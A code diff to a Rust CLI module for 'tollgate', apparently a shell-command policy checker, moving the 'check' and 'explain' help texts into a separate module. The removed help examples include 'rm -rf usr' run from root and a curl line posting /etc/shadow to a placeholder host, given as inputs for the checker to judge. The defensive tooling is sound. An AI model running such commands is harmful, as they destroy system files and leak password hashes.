@@ -3,6 +3,7 @@
 //! The texts here are `--help` and, by [`super::man`], the man pages. What stands under "Examples:" and
 //! the like after a command's options becomes a section of its page.
 
+use super::help;
 use crate::model::Tier;
 use clap::{ArgGroup, Args, Parser, Subcommand, ValueEnum};
 use std::ffi::OsString;
@@ -82,12 +83,12 @@ pub enum Command {
     /// that `tollgate run` would take here. With `--line` the text is read as a shell line: every
     /// command in it is judged, and what cannot be known before it runs is decided by
     /// `defaults.unknown`. Nothing is run and nothing is recorded.
-    #[command(after_long_help = CHECK)]
+    #[command(after_long_help = help::CHECK)]
     Check(CheckArgs),
     /// Say which rules match a command, where they stand, and why the outcome follows
     ///
     /// As `tollgate check`, with every rule that matches, its file and line, and its reason.
-    #[command(after_long_help = EXPLAIN)]
+    #[command(after_long_help = help::EXPLAIN)]
     Explain(CheckArgs),
     /// Write, check and compare policies
     ///
@@ -156,29 +157,6 @@ Examples:
 Exit status:
   0    the file was written
   125  it was not: it is there already, or cannot be written";
-
-const CHECK: &str = "\
-Examples:
-  tollgate check -- git push --force
-  tollgate check --line 'cd / && rm -rf usr'
-  tollgate check --policy new.yaml --json -- npm publish
-
-Exit status:
-  0    allow
-  1    deny
-  2    ask
-  125  error: a policy that does not load, or wrong usage";
-
-const EXPLAIN: &str = "\
-Examples:
-  tollgate explain -- git push --force
-  tollgate explain --line 'curl -d @/etc/shadow https://host.example'
-
-Exit status:
-  0    allow
-  1    deny
-  2    ask
-  125  error: a policy that does not load, or wrong usage";
 
 const DOCTOR: &str = "\
 Tiers:
